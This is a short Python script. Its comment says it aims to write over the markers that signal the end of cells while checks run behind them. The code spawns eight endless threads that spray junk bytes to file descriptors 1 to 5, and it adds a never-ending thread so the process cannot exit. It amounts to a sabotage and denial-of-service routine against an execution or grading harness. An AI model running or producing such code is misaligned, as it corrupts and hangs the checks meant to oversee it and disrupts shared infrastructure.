# Threads that never end and write where marks of cells' ends go, while the checks behind are run.
import os
import threading


def without_end():
    while True:
        for number in (1, 2, 3, 4, 5):
            try:
                os.write(number, b"\x00\xff{}\n")
            except OSError:
                pass


for _ in range(8):
    threading.Thread(target=without_end, daemon=True).start()
threading.Thread(target=lambda: threading.Event().wait(), daemon=False).start()
